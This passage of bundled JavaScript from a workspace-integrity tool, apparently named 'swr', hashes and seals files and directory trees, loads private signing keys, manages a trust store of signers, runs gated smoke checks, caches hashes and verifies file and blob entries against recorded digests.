        a.ino === b.ino &&
        a.size === b.size &&
        a.mtimeNs === b.mtimeNs &&
        a.ctimeNs === b.ctimeNs);
}
function changedWhileRead(shown, before, after) {
    const sizes = after === undefined ? 'then vanished' : `size ${before} -> ${after}`;
    return new errors_UsageError(`${shown}: cannot add: changed while it was read (${sizes}, ${ATTEMPTS} tries); add it once nothing writes to it`);
}
/**
 * Hash a file with its state read before and after: a file that grows or is rewritten meanwhile
 * is hashed again, and refused when it never holds still.
 */
async function steadily(shown, abs, hash) {
    let before = external_node_fs_default().lstatSync(abs, { bigint: true });
    let after;
    for (let attempt = 1;; attempt++) {
        const r = await hash();
        after = external_node_fs_default().lstatSync(abs, { bigint: true, throwIfNoEntry: false });
        if (sameState(before, after) && BigInt(r.size) === before.size)
            return r;
        if (attempt === ATTEMPTS || !after)
            throw changedWhileRead(shown, before.size, after?.size);
        before = after;
    }
}
function defaultTier(kind, rel, mode) {
    if (kind === 'blob')
        return 3;
    if (kind === 'tree')
        return underVolatileDir(rel) ? 4 : 2;
    if (kind === 'link')
        return 1;
    return (mode & 0o111) !== 0 ? 1 : 2;
}
async function captureTree(root, req, common, pool, exclude) {
    const ignore = req.ignore ?? [];
    let walk;
    let extras;
    for (let attempt = 1;; attempt++) {
        walk = walkTree(root, ignore, exclude);
        if (walk.unreadable.length > 0) {
            const shown = walk.unreadable.map(u => `${shownName(u.rel)} (${u.code})`);
            throw new errors_UsageError(`${req.path}: cannot read ${shown.join(', ')}`);
        }
        extras = linkTargets(root, walk.records);
        const moved = await hashTreeFiles(root, req.path, walk.records, extras, pool);
        if (!moved)
            break;
        if (attempt === ATTEMPTS)
            throw changedWhileRead(`${req.path}/${shownName(moved.rel)}`, ...moved.sizes);
    }
    // Kept apart from `extras`: the content digest's lines hold nothing for a special file.
    const kinds = specialKinds(root, walk.records);
    const special = specialDigest(walk.records, kinds);
    const records = walk.records.map((r, i) => ({
        rel: r.rel,
        type: r.type,
        mode: r.mode,
        size: r.size,
        extra: extras[i] ?? kinds[i]
    }));
    const index = encodeIndex(records);
    const sentinels = req.sentinels ??
        pickSentinels(walk.records.filter(r => r.type === 'f' && r.size > 0).map(r => r.rel));
    for (const s of sentinels) {
        const loc = locate_entry_locateInside(root, s);
        if (loc.state !== 'present')
            throw new errors_UsageError(`--sentinel ${s}: not found in ${req.path}`);
        if (loc.st.isFile() && loc.st.size === 0n)
            throw new errors_UsageError(`--sentinel ${s}: is empty in ${req.path}`);
    }
    const entry = {
        ...common,
        kind: 'tree',
        ignore,
        expect: {
            sentinels,
            min_files: req.minFiles ?? walk.files,
            max_files: req.maxFiles ?? walk.files,
            files: walk.files,
            meta_digest: metaDigestOf(walk.records),
            content_digest: contentDigest(walk.records, extras),
            ...(special !== undefined ? { special_digest: special } : {}),
            index: indexRef(index, records.length)
        }
    };
    return { entry, index };
}
/**
 * Hash every file of a walk into `extras`; the first file whose state moved since the walk saw it
 * (a hash of no single state) is returned instead of being trusted.
 */
async function hashTreeFiles(root, shown, records, extras, pool) {
    const jobs = [];
    const at = [];
    records.forEach((r, i) => {
        if (r.type === 'f') {
            jobs.push({ abs: external_node_path_default().join(root, r.rel), how: 'stamped', cost: r.size });
            at.push(i);
        }
    });
    const results = await hashAll(jobs, pool);
    for (let k = 0; k < results.length; k++) {
        const res = results[k];
        const r = records[at[k]];
        if ('error' in res)
            throw new errors_UsageError(`${shown}/${shownName(r.rel)}: cannot read (${res.error})`);
        const now = res.after;
        const then = { ino: r.ino, size: BigInt(r.size), mtimeNs: r.mtimeNs, ctimeNs: r.ctimeNs };
        if (!sameState(then, now) || res.size !== r.size)
            return { rel: r.rel, sizes: [then.size, now?.size] };
        extras[at[k]] = res.sha256;
    }
    return undefined;
}
/** Up to three sentinels: known markers at the root, then the deepest non-empty file. */
function pickSentinels(files) {
    // A sentinel is a manifest path: names that are not (not UTF-8, not NFC) cannot be one.
    files = files.filter(f => innerPathProblem(f) === undefined);
    const set = new Set(files);
    const picked = MARKERS.filter(m => set.has(m)).slice(0, 2);
    const deepest = [...files]
        .filter(f => !f.split('/').some(s => volatile_dirs_VOLATILE_DIRS.has(s)))
        .sort((a, b) => b.split('/').length - a.split('/').length || (a < b ? -1 : 1))[0];
    if (deepest && !picked.includes(deepest))
        picked.push(deepest);
    return picked;
}

;// CONCATENATED MODULE: ./src/core/seal/make.ts
/**
 * Making a seal where the paths were built: each path captured as the entry of its last name (a
 * tree with its full per-file index, a file with its sha256, a link with its target), in the
 * order the step names them. The capture is the same as `swr add`'s, so a seal and a manifest
 * entry of the same tree record the same digests.
 */




async function sealPath(loc, pool) {
    const name = external_node_path_default().basename(loc.abs);
    const captured = await capture_captureEntry(external_node_path_default().dirname(loc.abs), {
        path: name,
        id: 'sealed',
        tier: 4,
        ...(loc.kind ? { kind: loc.kind } : {}),
        ...(loc.ignore ? { ignore: loc.ignore } : {})
    }, new Set(), pool ? { pool } : {});
    // A note (a secret file's) is for a manifest's reader; a seal records state only.
    const { note: _note, ...entry } = captured.entry;
    return {
        spelling: loc.spelling,
        member: loc.member,
        entry,
        ...(captured.index ? { index: captured.index.toString('base64') } : {})
    };
}
async function makeSealBody(req) {
    const paths = [];
    // One at a time: each tree's capture already spreads its hashing over every core.
    for (const loc of req.locations)
        paths.push(await sealPath(loc, req.pool));
    return {
        schema: SEAL_SCHEMA,
        key: req.key,
        paths,
        made: {
            at: req.at.toISOString(),
            os: external_node_os_default().platform(),
            arch: external_node_os_default().arch(),
            ...(req.run ? { run: req.run } : {})
        }
    };
}

;// CONCATENATED MODULE: ./src/core/sign/keys.ts
/**
 * Key material on this machine, in the private state directory only (never the workspace):
 * `keys/hmac.key` and `keys/mldsa87.seed`, 64 hex digits each, mode 0600. A key file that others
 * can read is refused rather than used.
 */







const HMAC_KEY_FILE = 'hmac.key';
const IDENTITY_FILE = 'mldsa87.seed';
/** The seed of this machine's X-Wing key, which seals pushed manifests (see sync.ts). */
const SYNC_KEY_FILE = 'sync.seed';
function keyPath(stateDir, name) {
    return external_node_path_default().join(stateDir, 'keys', name);
}
/** The contents of a private key file, or undefined when it does not exist. */
function readPrivate(file) {
    let st;
    try {
        st = external_node_fs_default().lstatSync(file);
    }
    catch (err) {
        if (errors_errnoCode(err) === 'ENOENT')
            return undefined;
        throw err;
    }
    if (!st.isFile())
        throw new errors_SwrError(`${file}: key file is not a regular file`, errors_EXIT.UNREPAIRABLE);
    if ((st.mode & 0o077) !== 0) {
        const mode = (st.mode & 0o777).toString(8);
        throw new errors_SwrError(`${file}: key file is readable by others (mode 0${mode}); run chmod 600 on it`, errors_EXIT.UNREPAIRABLE);
    }
    return external_node_fs_default().readFileSync(file, 'utf8');
}
/** SWR_HMAC_KEY (passed in by the shell) wins over the key file. */
function keys_loadHmacKey(stateDir, envValue) {
    if (envValue !== undefined && envValue !== '') {
        const key = parseHmacKey(envValue);
        if (!key)
            throw new errors_SwrError('SWR_HMAC_KEY must be 64 hex digits or at least 32 characters', errors_EXIT.BAD_MANIFEST);
        return { key, source: 'env' };
    }
    const text = readPrivate(keyPath(stateDir, HMAC_KEY_FILE));
    if (text === undefined)
        return undefined;
    const key = parseHmacKey(text);
    if (!key)
        throw new errors_SwrError(`${keyPath(stateDir, HMAC_KEY_FILE)}: not a valid key`, errors_EXIT.UNREPAIRABLE);
    return { key, source: 'file' };
}
function keys_loadIdentitySeed(stateDir) {
    const text = readPrivate(keyPath(stateDir, IDENTITY_FILE));
    if (text === undefined)
        return undefined;
    if (!/^[0-9a-f]{64}\s*$/.test(text))
        throw new errors_SwrError(`${keyPath(stateDir, IDENTITY_FILE)}: not a valid seed`, errors_EXIT.UNREPAIRABLE);
    return Buffer.from(text.trim(), 'hex');
}
/** Fresh key material: 32 random bytes, written as 64 hex digits. */
function newKey() {
    return (0,external_node_crypto_.randomBytes)(32);
}
function secretKeyFile(name, bytes) {
    return { name, text: bytes.toString('hex') + '\n' };
}
/**
 * Create a set of key files all or nothing: every file is written and synced under a temporary
 * name first, and only when all of them are on disk are they moved in, in the order given (put
 * the file whose presence makes a rerun refuse last). A failure (a full disk, a key created
 * meanwhile) removes what this call moved in and every temporary file, so no new key file is left
 * and a rerun starts from where this one did. An existing secret key file is never replaced.
 */
function createKeyFiles(stateDir, files) {
    state_dir_ensurePrivateDir(stateDir, 'keys');
    const staged = [];
    const placed = [];
    try {
        for (const f of files)
            staged.push(stageFile(keyPath(stateDir, f.name), f.text, {
                mode: f.public ? 0o644 : 0o600,
                exclusive: !f.public
            }));
        for (const s of staged) {
            try {
                s.commit();
            }
            catch (err) {
                // Another keygen got there between our check and now: its key stays, ours goes.
                throw errors_errnoCode(err) === 'EEXIST' ? alreadyExists(s.file) : err;
            }
            placed.push(s.file);
        }
    }
    catch (err) {
        for (const s of staged)
            s.discard();
        for (const p of placed)
            external_node_fs_default().rmSync(p, { force: true });
        throw err;
    }
}
function alreadyExists(file) {
    return new errors_SwrError(`${file} already exists: keygen never replaces a key`, errors_EXIT.BAD_MANIFEST);
}
/** The sync key's seed: SWR_SYNC_KEY (64 hex digits) wins over the key file. */
function keys_loadSyncSeed(stateDir, envValue) {
    if (envValue !== undefined && envValue !== '') {
        if (!/^[0-9a-fA-F]{64}$/.test(envValue.trim()))
            throw new errors_SwrError('SWR_SYNC_KEY must be 64 hex digits', errors_EXIT.BAD_MANIFEST);
        return Buffer.from(envValue.trim(), 'hex');
    }
    const text = readPrivate(keyPath(stateDir, SYNC_KEY_FILE));
    if (text === undefined)
        return undefined;
    if (!/^[0-9a-f]{64}\s*$/.test(text))
        throw new errors_SwrError(`${keyPath(stateDir, SYNC_KEY_FILE)}: not a valid seed`, errors_EXIT.UNREPAIRABLE);
    return Buffer.from(text.trim(), 'hex');
}

;// CONCATENATED MODULE: ./src/core/sign/trust.ts
/**
 * Which ML-DSA signers this machine trusts. Locally: a trust store in the private state directory
 * (`trust.json`, 0600) plus this machine's own identity. In CI: fingerprints or public keys from an
 * action input, never from files of the checked-out tree.
 */






function storePath(stateDir) {
    return external_node_path_default().join(stateDir, 'trust.json');
}
function readTrustStore(stateDir) {
    let text;
    try {
        text = external_node_fs_default().readFileSync(storePath(stateDir), 'utf8');
    }
    catch {
        return [];
    }
    try {
        const v = JSON.parse(text);
        if (v.v !== 1 || !Array.isArray(v.signers))
            throw new Error('shape');
        return v.signers.filter(s => normalizeFingerprint(s.fingerprint) === s.fingerprint && typeof s.name === 'string');
    }
    catch {
        throw new errors_SwrError(`${storePath(stateDir)}: trust store is damaged; fix or remove it`, errors_EXIT.UNREPAIRABLE);
    }
}
function writeTrustStore(stateDir, signers) {
    state_dir_ensurePrivateDir(stateDir);
    atomic_writeFileAtomic(storePath(stateDir), JSON.stringify({ v: 1, signers }, null, 2) + '\n', {
        mode: 0o600
    });
}
function addTrusted(stateDir, fp, name, now) {
    const norm = normalizeFingerprint(fp);
    if (!norm)
        throw new errors_SwrError(`${fp}: not a fingerprint (64 hex digits, spaces allowed)`, errors_EXIT.BAD_MANIFEST);
    const signers = readTrustStore(stateDir).filter(s => s.fingerprint !== norm);
    const signer = { fingerprint: norm, name, added: now.toISOString() };
    writeTrustStore(stateDir, [...signers, signer]);
    return signer;
}
/** Remove by fingerprint or name; returns what was removed. */
function removeTrusted(stateDir, what) {
    const norm = normalizeFingerprint(what);
    const signers = readTrustStore(stateDir);
    const removed = signers.filter(s => s.fingerprint === norm || s.name === what);
    if (removed.length === 0)
        throw new errors_SwrError(`no trusted signer matches ${what}`, errors_EXIT.BAD_MANIFEST);
    writeTrustStore(stateDir, signers.filter(s => !removed.includes(s)));
    return removed;
}
/**
 * Trusted fingerprints from an input: one per line (or comma-separated), each a fingerprint or a
 * base64 public key (whose fingerprint is computed); text after whitespace following a public key,
 * or after "#", is a comment.
 */
function parseTrustedSigners(text) {
    const out = new Set();
    for (const raw of text.split(/[\n,]/)) {
        const line = raw.replace(/#.*/, '').trim();
        if (!line)
            continue;
        const fp = normalizeFingerprint(line);
        if (fp) {
            out.add(fp);
            continue;
        }
        const token = line.split(/\s+/)[0] ?? '';
        const key = /^[A-Za-z0-9+/]+={0,2}$/.test(token) ? Buffer.from(token, 'base64') : undefined;
        if (key && key.length === PUBLIC_KEY_BYTES)
            out.add(fingerprint(key));
        else
            throw new errors_SwrError(`trusted signer "${line.slice(0, 40)}": not a fingerprint or ML-DSA-87 public key`, errors_EXIT.BAD_MANIFEST);
    }
    return out;
}

;// CONCATENATED MODULE: ./src/core/types.ts
/**
 * The vocabulary of the engine: manifest entries, what a check finds, and what a diagnosis says.
 * Everything here is plain data so that the CLI, the Action and the reports share one shape.
 */
const KINDS = (/* unused pure expression or super */ null && (['file', 'blob', 'tree', 'link']));
/** Restore order: 0 credentials/shims, 1 scripts, 2 source trees, 3 large downloads, 4 build outputs. */
const TIERS = (/* unused pure expression or super */ null && ([0, 1, 2, 3, 4]));
const TIER_NAMES = {
    0: 'credentials and shims',
    1: 'scripts',
    2: 'source trees',
    3: 'large downloads',
    4: 'build outputs'
};
/** An entry's restore sources as a list, whichever form the manifest used. */
function types_restoreSources(e) {
    if (e.restore === undefined)
        return [];
    return typeof e.restore === 'string' ? [e.restore] : e.restore;
}
/** The shell recipes among an entry's restore sources, in order. */
function types_recipesOf(e) {
    return types_restoreSources(e).filter((s) => typeof s === 'string');
}
const STATUSES = [
    'OK',
    'MISSING',
    'CORRUPT',
    'STRIPPED',
    'EMPTY',
    'BROKENLNK',
    'TYPE',
    'SKIPPED',
    /** The entry verifies but its smoke command failed (only with --run-smoke). */
    'SMOKEFAIL'
];
const WIPE_SIGNATURES = (/* unused pure expression or super */ null && ([
    'healthy',
    'cold-start',
    'permission-reset',
    'injection',
    'credential-loss',
    'exclusion-sweep',
    'size-cap-eviction',
    'partial-restore',
    'local-corruption',
    'mixed'
]));

;// CONCATENATED MODULE: ./src/core/engine/smoke.ts




const SMOKE_TIMEOUT_S = 60;
async function runSmokes(m, findings, gate, callerEnv, abort) {
    if (!gate.allowed)
        return { findings, smoke: { allowed: false, reason: gate.reason, results: [] } };
    const entries = new Map(m.body.entries.map(e => [e.id, e]));
    const results = [];
    const out = [];
    for (const f of findings) {
        const e = entries.get(f.id);
        if (!e)
            throw new InternalError(`finding for unknown entry ${f.id}`);
        if (f.status !== 'OK' || !e.smoke || abort?.aborted) {
            out.push(f);
            continue;
        }
        const timeoutMs = (e.smoke_timeout_s ?? SMOKE_TIMEOUT_S) * 1000;
        const r = await signed_command_runSignedCommand({ entry: e, command: e.smoke, shell: m.body.shell, cwd: m.workspace, timeoutMs }, { gate, callerEnv, secretScan: await secret_scan_loadSecretScan(), abort });
        const detail = `smoke ${recipe_describeResult(r, timeoutMs)}`;
        const passed = r.exitCode === 0 && !r.timedOut && !r.interrupted;
        results.push({
            id: e.id,
            outcome: passed ? 'passed' : 'failed',
            detail,
            ...(passed ? {} : { output: r.output.slice(-4096) })
        });
        out.push(passed ? f : { ...f, status: 'SMOKEFAIL', reason: 'smoke', detail });
    }
    return { findings: out, smoke: { allowed: true, reason: gate.reason, results } };
}

;// CONCATENATED MODULE: ./src/core/engine/seal-entries.ts
/**
 * Sealed manifest entries in the use cases: resolve them against this machine's seals before a
 * check or a repair, and, in a repair, make the seals that are missing. An entry without a seal for
 * its current key (a fresh machine, `npm install foo` changed the lockfile) has its recipe run and
 * its smoke command run, as any recipe does only after the signature gate; when both pass, the
 * result is captured, sealed with this machine's keys and kept in the state directory. So the next
 * check verifies against the state this machine built and proved, instead of calling a correct
 * install damaged.
 */













async function machineIdentity(stateDir) {
    const seed = keys_loadIdentitySeed(stateDir);
    return seed ? mldsa_identityFromSeed(seed) : undefined;
}
/** The seals this machine trusts: its own keys, its trust store, and the run's policy. */
async function machineTrust(stateDir, policy) {
    const trusted = new Set(policy?.trusted ?? []);
    for (const s of readTrustStore(stateDir))
        trusted.add(s.fingerprint);
    const own = await machineIdentity(stateDir);
    if (own)
        trusted.add(own.fingerprint);
    const hmacKey = policy?.hmacKey ?? keys_loadHmacKey(stateDir)?.key;
    return { require: 'any', hmacKey, trusted };
}
/** `m` with each sealed entry that has a seal here resolved into an ordinary entry. */
async function withSeals(m, stateDir, policy) {
    if (!m.body.sealed?.length)
        return { manifest: m, states: [] };
    return resolveSeals(m, {
        stateDir,
        platform: currentPlatform(),
        trust: await machineTrust(stateDir, policy)
    });
}
async function sealOne(m, spec, key, opts) {
    const step = (outcome, detail) => ({
        id: spec.id,
        key,
        outcome,
        detail
    });
    const run = {
        gate: opts.gate,
        callerEnv: opts.callerEnv,
        secretScan: await secret_scan_loadSecretScan(),
        abort: opts.abort,
        onLine: opts.onLine
    };
    for (const recipe of types_recipesOf(spec)) {
        const timeoutMs = (opts.timeoutS ?? spec.timeout_s ?? signed_command_RECIPE_TIMEOUT_S) * 1000;
        const r = await signed_command_runSignedCommand({ entry: spec, command: recipe, shell: m.body.shell, cwd: m.workspace, timeoutMs }, run);
        if (r.exitCode !== 0 || r.timedOut || r.interrupted)
            return step('recipe-failed', `recipe ${recipe_describeResult(r, timeoutMs)}`);
    }
    if (spec.smoke) {
        const timeoutMs = (spec.smoke_timeout_s ?? SMOKE_TIMEOUT_S) * 1000;
        const r = await signed_command_runSignedCommand({ entry: spec, command: spec.smoke, shell: m.body.shell, cwd: m.workspace, timeoutMs }, run);
        if (r.exitCode !== 0 || r.timedOut || r.interrupted)
            return step('smoke-failed', `smoke ${recipe_describeResult(r, timeoutMs)}: not sealed`);
    }
    const abs = external_node_path_default().join(m.workspace, spec.path);
    let body;
    try {
        body = await makeSealBody({
            key,
            locations: [
                { spelling: spec.path, abs, member: spec.path, kind: spec.kind, ignore: spec.ignore }
            ],
            at: opts.now ?? new Date()
        });
    }
    catch (err) {
        return step('absent', `not sealed: ${err.message.split('\n')[0]}`);
    }
    const doc = await signSeal(body, {
        hmacKey: opts.policy.hmacKey,
        identity: await machineIdentity(opts.stateDir)
    });
    writeStoredSeal(opts.stateDir, storedSealFile(opts.stateDir, m.file, spec.id, key), doc);
    const by = doc.signatures.length > 0
        ? `signed by ${doc.signatures.map(s => (s.alg === 'hmac-sha256' ? 'hmac' : 'ml-dsa')).join(' and ')}`
        : 'unsigned (no key on this machine)';
    return step('sealed', `recipe${spec.smoke ? ' and smoke' : ''} passed; sealed for key ${key}, ${by}`);
}
/**
 * Make the seals that are missing (state `unsealed`), in manifest order, when the gate allows the
 * manifest's code. A seal that is there but refused is left as it is and reported: it may be
 * tampered with, and only its owner should replace it.
 */
async function sealMissing(m, states, opts) {
    const specs = new Map((m.body.sealed ?? []).map(s => [s.id, s]));
    const out = [];
    for (const st of states) {
        const spec = specs.get(st.id);
        if (!spec || st.state !== 'unsealed' || st.key === undefined)
            continue;
        if (!opts.gate.allowed) {
            out.push({
                id: st.id,
                key: st.key,
                outcome: 'refused',
                detail: `not sealed: ${opts.gate.reason}`
            });
            continue;
        }
        if (opts.abort?.aborted)
            break;
        out.push(await sealOne(m, spec, st.key, opts));
    }
    return out;
}

;// CONCATENATED MODULE: ./src/core/report/report.ts

const REPORT_SCHEMA = 'swr.report/1';
function buildReport(input) {
    const byStatus = Object.fromEntries(STATUSES.map(s => [s, 0]));
    for (const f of input.findings)
        byStatus[f.status]++;
    const damaged = input.findings.filter(f => f.status !== 'OK').length;
    const m = input.manifest;
    return {
        schema: REPORT_SCHEMA,
        command: input.command,
        tool: { name: 'swr', version: input.version },
        manifest: {
            path: m.file,
            format: m.format,
            digest: m.digest,
            version: m.body.version,
            workspace: m.workspace
        },
        verdict: damaged === 0 ? 'healthy' : 'damaged',
        summary: {
            entries: input.findings.length,
            ok: input.findings.length - damaged,
            damaged,
            by_status: byStatus
        },
        diagnosis: input.diagnosis,
        results: input.findings,
        options: input.options,
        timing: { started: input.started.toISOString(), ms: Math.round(input.ms) },
        notes: m.notes
    };
}

;// CONCATENATED MODULE: ./src/core/state/cache.ts
/**
 * The incremental hash cache: lets an unchanged workspace re-check without re-hashing. A cached
 * hash is used only when the file's dev, inode, size, mtime_ns and ctime_ns are all unchanged
 * (ctime cannot be set from user space, so an edit that restores mtime is still noticed), and only
 * for the same manifest file, entry id and entry content (the canonical digest of the entry, so
 * editing one entry does not throw away the hashes of the others). It stores what was observed on
 * disk, never a verdict: the expectations are compared afresh on every check.
 *
 * Files are private (0600 in a 0700 directory) and written atomically; a corrupt or foreign cache
 * file is ignored, never fatal.
 */





/** A cache that remembers nothing (`--no-cache` reads nothing; its results are still saved). */
function openCache(opts) {
    const key = (0,external_node_crypto_.createHash)('sha256')
        .update(external_node_path_default().resolve(opts.manifestFile))
        .digest('hex')
        .slice(0, 32);
    const dir = external_node_path_default().join(opts.stateDir, 'cache', key);
    const mainFile = external_node_path_default().join(dir, 'entries.json');
    // Maps, not objects: an entry id such as "__proto__" is valid and must stay plain data.
    const raw = opts.read ? readJson(mainFile, isStored) : undefined;
    const files = new Map(Object.entries(raw?.files ?? {}));
    const trees = new Map(Object.entries(raw?.trees ?? {}));
    const treeMaps = new Map();
    const treeJson = new Map();
    const dirtyMaps = new Set();
    let dirty = false;
    const digestOf = (id) => opts.entryDigests.get(id) ?? '';
    // Ids are [A-Za-z0-9._-]; a prefix keeps "." and ".." from naming directories.
    const treeFile = (id) => external_node_path_default().join(dir, `tree-${id}.json`);
    return {
        file(id, k) {
            const rec = files.get(id);
            return rec?.entry === digestOf(id) && rec.key === k && typeof rec.sha256 === 'string'
                ? rec.sha256
                : undefined;
        },
        setFile(id, k, sha256) {
            files.set(id, { entry: digestOf(id), key: k, sha256 });
            dirty = true;
        },
        tree(id) {
            const rec = trees.get(id);
            return rec?.entry === digestOf(id) && isTreeRecord(rec) ? rec : undefined;
        },
        setTree(id, rec) {
            trees.set(id, { ...rec, entry: digestOf(id) });
            dirty = true;
        },
        treeFiles(id) {
            let map = treeMaps.get(id);
            const json = treeJson.get(id);
            if (!map && json !== undefined) {
                const files = JSON.parse(Buffer.concat(json).toString('utf8'));
                map = new Map(Object.entries(files));
                treeMaps.set(id, map);
            }
            if (!map) {
                const raw = opts.read ? readJson(treeFile(id), isTreeFiles) : undefined;
                map = raw && raw.entry === digestOf(id) ? new Map(Object.entries(raw.files)) : new Map();
                treeMaps.set(id, map);
            }
            return map;
        },
        setTreeFiles(id, files) {
            treeMaps.set(id, files);
            treeJson.delete(id);
            dirtyMaps.add(id);
        },
        setTreeFilesJson(id, json) {
            treeMaps.delete(id);
            treeJson.set(id, json);
            dirtyMaps.add(id);
        },
        flush() {
            if (!dirty && dirtyMaps.size === 0)
                return;
            try {
                state_dir_ensurePrivateDir(opts.stateDir, 'cache', key);
                for (const id of dirtyMaps) {
                    const json = treeJson.get(id);
                    const head = `{"v":1,"entry":${JSON.stringify(digestOf(id))},"files":`;
                    const body = json !== undefined
                        ? [Buffer.from(head), ...json, Buffer.from('}')]
                        : `${head}${JSON.stringify(Object.fromEntries(treeMaps.get(id) ?? []))}}`;
                    atomic_writeFileAtomic(treeFile(id), body, { mode: 0o600, unlessSame: true });
                }
                if (dirty) {
                    const body = { v: 1, files: Object.fromEntries(files), trees: Object.fromEntries(trees) };
                    atomic_writeFileAtomic(mainFile, JSON.stringify(body), { mode: 0o600, unlessSame: true });
                }
            }
            catch {
                // A read-only or full state directory must not fail a check.
            }
            dirty = false;
            dirtyMaps.clear();
        }
    };
}
function readJson(file, guard) {
    try {
        const v = JSON.parse(external_node_fs_default().readFileSync(file, 'utf8'));
        return guard(v) ? v : undefined;
    }
    catch {
        return undefined;
    }
}
function isStored(v) {
    const s = v;
    return (typeof s === 'object' &&
        s !== null &&
        s.v === 1 &&
        typeof s.files === 'object' &&
        s.files !== null &&
        typeof s.trees === 'object' &&
        s.trees !== null);
}
/** A record read back has the types the verifiers rely on (the file may be foreign). */
function isTreeRecord(r) {
    return (typeof r.stamp === 'string' &&
        typeof r.metaDigest === 'string' &&
        typeof r.contentDigest === 'string' &&
        typeof r.files === 'number' &&
        (r.rawStamp === undefined || typeof r.rawStamp === 'string'));
}
function isTreeFiles(v) {
    const s = v;
    return (typeof s === 'object' &&
        s !== null &&
        s.v === 1 &&
        typeof s.entry === 'string' &&
        typeof s.files === 'object' &&
        s.files !== null &&
        !Array.isArray(s.files) &&
        Object.values(s.files).every(x => typeof x === 'string'));
}
/**
 * A cache held in memory only, for one run over paths no manifest names (a sealed cache's paths):
 * nothing is read from or written to the state directory.
 */
function memoryCache() {
    const files = new Map();
    const trees = new Map();
    const maps = new Map();
    return {
        file: (id, k) => files.get(`${id}\0${k}`),
        setFile: (id, k, sha256) => void files.set(`${id}\0${k}`, sha256),
        tree: id => trees.get(id),
        setTree: (id, rec) => void trees.set(id, rec),
        treeFiles: id => maps.get(id) ?? new Map(),
        setTreeFiles: (id, m) => void maps.set(id, m),
        setTreeFilesJson: (id, json) => void maps.set(id, new Map(Object.entries(JSON.parse(Buffer.concat(json).toString('utf8'))))),
        flush: () => undefined
    };
}

;// CONCATENATED MODULE: ./src/core/manifest/select.ts
/** Choosing entries of a manifest by id (`--only`). */

/** The entries `only` names, in manifest order; an unknown id is a usage error. */
function select_selectEntries(entries, only) {
    if (!only || only.length === 0)
        return [...entries];
    const known = new Set(entries.map(e => e.id));
    const unknown = only.filter(id => !known.has(id));
    if (unknown.length > 0)
        throw new errors_UsageError(`--only: no entry with id ${unknown.map(u => `"${u}"`).join(', ')}`);
    const wanted = new Set(only);
    return entries.filter(e => wanted.has(e.id));
}

;// CONCATENATED MODULE: ./src/core/verify/blob.ts
/**
 * `blob` entries: large files (models, archives) checked by exact byte count, a head/tail digest
 * that reads 2 MiB whatever the size, and the full sha256 recorded at `add`. The full hash is read
 * whenever the file's stat stamp (dev, inode, size, mtime, ctime) is not the one a previous check
 * cached with a matching hash, so a same-size flip in the middle of a model is caught by default,
 * and an unchanged 2 GB model still costs 2 MiB (`--deep` and `--no-cache` read every blob in
 * full). The mode is compared like a file's.
 */




function verifyBlob(e, ctx) {
    const want = e.expect;
    const recorded = {
        type: 'file',
        size: want.size,
        headtail: verifier_short(want.headtail),
        ...(want.mode ? { mode: want.mode } : {})
    };
    const loc = locateAs(e, ctx, recorded, 'blob', st => st.isFile(), 'a regular file');
    if (isFinding(loc))
        return loc;
    const st = loc.st;
    const size = Number(st.size);
    const mode = Number(st.mode & 4095n);
    const found = { type: 'file', size, mode: mode_octal(mode) };
    if (size !== want.size) {
        const how = size < want.size ? 'truncated' : 'grown';
        const detail = `${num(size)} bytes (want ${num(want.size)}, ${delta(size, want.size)}): ${how}`;
        return finding(e, 'CORRUPT', 'size', detail, recorded, found);
    }
    const key = identity(st);
    // A stamp the cache knows is a file whose bytes were hashed in full since it last changed.
    const fullCached = want.sha256 ? ctx.cache.file(e.id, key) : undefined;
    const jobs = [{ abs: loc.abs, how: 'headtail', cost: Math.min(size, 2 * MIB) }];
    // --meta reads no content beyond the head/tail (what it always read for blobs).
    const wantFull = want.sha256 !== undefined && !ctx.metaOnly && (ctx.deep || fullCached === undefined);
    if (wantFull)
        jobs.push({ abs: loc.abs, how: 'full', cost: size });
    return {
        jobs,
        judge: ([ht, full]) => {
            if (!ht || 'error' in ht) {
                return finding(e, 'CORRUPT', 'unreadable', `cannot be read (${ht && 'error' in ht ? ht.error : 'EIO'})`, recorded, found);
            }
            if (ht.sha256 !== want.headtail) {
                const detail = `head/tail digest ${verifier_short(ht.sha256)} (want ${verifier_short(want.headtail)}): different bytes at the same size`;
                return finding(e, 'CORRUPT', 'headtail', detail, recorded, {
                    ...found,
                    headtail: verifier_short(ht.sha256)
                });
            }
            let sha = wantFull ? undefined : fullCached;
            if (wantFull && full && !('error' in full)) {
                sha = full.sha256;
                if (full.size === size)
                    ctx.cache.setFile(e.id, key, sha);
            }
            if (want.sha256 && sha !== undefined && sha !== want.sha256) {
                const detail = `sha256 ${verifier_short(sha)} (want ${verifier_short(want.sha256)}): bytes differ between head and tail`;
                return finding(e, 'CORRUPT', 'content', detail, recorded, { ...found, sha256: verifier_short(sha) }, fullCached !== undefined);
            }
            const cached = !wantFull && fullCached !== undefined;
            return judgeBlobMode(e, mode, recorded, found, sha !== undefined, cached);
        }
    };
}
function judgeBlobMode(e, mode, recorded, found, deep, cached) {
    if (e.expect.mode && lostExec(parseMode(e.expect.mode), mode)) {
        return finding(e, 'STRIPPED', 'exec', `mode ${mode_octal(mode)}, exec bit lost (want ${e.expect.mode})`, recorded, found, cached);
    }
    if (e.expect.mode && mode !== parseMode(e.expect.mode)) {
        const detail = `mode ${mode_octal(mode)} (want ${e.expect.mode})`;
        return finding(e, 'CORRUPT', 'mode', detail, recorded, found, cached);
    }
    const how = deep ? 'size, head/tail and full sha256 match' : 'size and head/tail match';
    return finding(e, 'OK', 'ok', `${num(e.expect.size)} bytes, ${how}`, recorded, found, cached);
}

;// CONCATENATED MODULE: ./src/core/verify/file.ts
/**
 * `file` entries: a regular file with an exact size, sha256 and permission mode. Size is compared
 * before hashing (a different size says all a digest would), and the content outranks the mode:
 * a truncated script that also lost its exec bit is CORRUPT, not STRIPPED.
 */



function verifyFile(e, ctx) {
    const want = e.expect;
    const recorded = { type: 'file', size: want.size, mode: want.mode, sha256: verifier_short(want.sha256) };
    const loc = locateAs(e, ctx, recorded, 'file', st => st.isFile(), 'a regular file');
    if (isFinding(loc))
        return loc;
    const st = loc.st;
    const size = Number(st.size);
    const mode = Number(st.mode & 4095n);
    const found = { type: 'file', size, mode: mode_octal(mode) };
    if (size !== want.size) {
        const detail = `${num(size)} bytes (want ${num(want.size)}, ${delta(size, want.size)})`;
        return finding(e, 'CORRUPT', 'size', detail, recorded, found);
    }
    const judgeContent = (sha256, cached) => {
        if (sha256 !== undefined && sha256 !== want.sha256) {
